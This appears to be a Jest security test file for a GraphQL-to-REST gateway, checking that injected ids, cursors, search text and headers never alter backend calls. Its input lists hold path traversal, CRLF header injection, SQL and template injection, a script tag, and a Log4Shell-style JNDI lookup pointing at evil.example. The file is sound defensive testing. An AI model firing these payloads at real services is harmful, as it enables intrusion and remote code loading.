import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import { expectAlive, send } from "./attack.ts";
import { startGateway } from "../start.ts";
import type { Gateway } from "../start.ts";

let gateway: Gateway;
beforeAll(async () => {
  gateway = await startGateway({ recorded: true });
  await expectAlive(gateway.url);
});
afterAll(async () => {
  await expectAlive(gateway.url);
  await gateway.close();
});
beforeEach(() => {
  gateway.reads.length = 0;
  gateway.writes.length = 0;
});

/** Ids that would change the path, the query or the host of the REST call. */
const IDS = [
  "..",
  "../..",
  "../../../api/v2/users",
  "..%2f..%2fadmin",
  "%2e%2e",
  "%2e%2e%2f",
  "%252e%252e",
  "..\\..",
  "a/../../b",
  "./a",
  "a/b",
  "/",
  "//evil.example/",
  "http://evil.example/",
  "https://evil.example/api",
  "@evil.example",
  "a?expand=all",
  "a&pageSize=500",
  "a#b",
  "a;b",
  "a:b",
  "a\r\nX-Injected: 1",
  "a\nX-Injected: 1",
  "a\rb",
  "a\0b",
  "a\u2028b",
  "a b",
  " a",
  "a\t",
  "ａ",
  "a\u202eb",
  "a\ud800",
  "*",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "' or '1'='1",
  '"',
  "<script>",
  "a".repeat(65),
  "a".repeat(10_000),
  "",
];

/** Operations that put an id into a path, a query or a body. */
const OPERATIONS: [name: string, query: string, field: string][] = [
  ["library", "query ($id: ID!) { library(id: $id) { name } }", "library"],
  ["librariesById", "query ($id: ID!) { librariesById(ids: [$id]) { name } }", "librariesById"],
  ["response", "query ($id: ID!) { response(id: $id) { name } }", "response"],
  ["responses", "query ($id: ID!) { responses(libraryId: $id) { totalCount } }", "responses"],
  ["search", "query ($id: ID!) { searchResponses(filter: { libraryIds: [$id] }) { totalCount } }", "searchResponses"],
  ["messagingSetting", "query ($id: ID!) { messagingSetting(id: $id) { name } }", "messagingSetting"],
  [
    "supportedContentProfile",
    "query ($id: ID!) { supportedContentProfile(id: $id) { name } }",
    "supportedContentProfile",
  ],
  ["integration", "query ($id: ID!) { integration(by: { id: $id }) { name } }", "integration"],
  ["integrations", "query ($id: ID!) { integrations(messagingSettingId: $id) { totalCount } }", "integrations"],
];

describe.each(OPERATIONS)("an id of %s", (_, query, field) => {
  test.each(IDS)("%j never changes the REST call", async (id) => {
    const { status, body } = await send(gateway.url, { body: { query, variables: { id } } });
    expect([status, [body.data[field]].flat()]).toEqual([200, [null]]);
    expect(body.errors).toMatchObject([{ extensions: { code: "BAD_USER_INPUT" } }]);
    expect([...gateway.reads, ...gateway.writes]).toEqual([]);
  });
});

describe("an id of something that is written", () => {
  test.each(IDS)("%j never changes the REST call", async (id) => {
    const mutations = [
      "deleteLibrary(input: { id: $id }) { userErrors { code } }",
      'updateLibrary(input: { id: $id, name: "x" }) { userErrors { code } }',
      "deleteResponse(input: { id: $id }) { userErrors { code } }",
      "deleteIntegration(input: { id: $id, channel: OPEN }) { userErrors { code } }",
      'createResponse(input: { name: "x", libraryIds: [$id], texts: [{ content: "x" }] }) { userErrors { code } }',
    ];
    for (const mutation of mutations) {
      const query = `mutation ($id: ID!) { payload: ${mutation} }`;
      const { body } = await send(gateway.url, { body: { query, variables: { id } } });
      const codes = [
        ...(body.data?.payload?.userErrors ?? []),
        ...(body.errors ?? []).map((error: { extensions: object }) => error.extensions),
      ];
      expect([mutation, codes]).toEqual([mutation, [{ code: expect.stringMatching(/^(BAD_USER_INPUT|INVALID\w*)$/) }]]);
    }
    expect(gateway.writes).toEqual([]);
    expect(gateway.reads).toEqual([]);
  });
});

describe("text other than ids may hold anything, and stays text:", () => {
  test.each(["a\r\nX-Injected: 1", "../..", "a?b=c&d=e#f", "\0", '"}{', "a\u2028b"])("%j", async (phrase) => {
    const query = "query ($phrase: String!) { searchResponses(phrase: $phrase) { totalCount } }";
    const { status, body } = await send(gateway.url, { body: { query, variables: { phrase } } });
    expect([status, body]).toEqual([200, { data: { searchResponses: { totalCount: expect.any(Number) } } }]);
  });

  test.each(["a\r\nX-Injected: 1", "cm93OjE\r\n", "../..", "row:-1", "row:1e9", "__proto__", "=".repeat(5000)])(
    "a cursor of %j is refused",
    async (after) => {
      const query = "query ($after: String) { libraries(after: $after) { totalCount nodes { name } } }";
      const { body } = await send(gateway.url, { body: { query, variables: { after } } });
      expect(body.errors).toMatchObject([{ extensions: { code: "BAD_USER_INPUT" } }]);
      expect(gateway.reads).toEqual([]);
    },
  );
});

describe("headers", () => {
  test.each(["x-explain", "cache-control", "authorization", "x-request-id", "x-forwarded-for", "traceparent"])(
    "%s is never passed on",
    async (name) => {
      const headers = { [name]: "canary7f3a, ${jndi:ldap://evil.example/a} %0d%0aX-Injected: 1" };
      const {
        status,
        headers: answered,
        text,
      } = await send(gateway.url, { headers, body: { query: "{ __typename }" } });
      expect(status).toBe(200);
      expect(JSON.stringify(answered) + text).not.toMatch(/canary7f3a|x-injected/i);
    },
  );
});
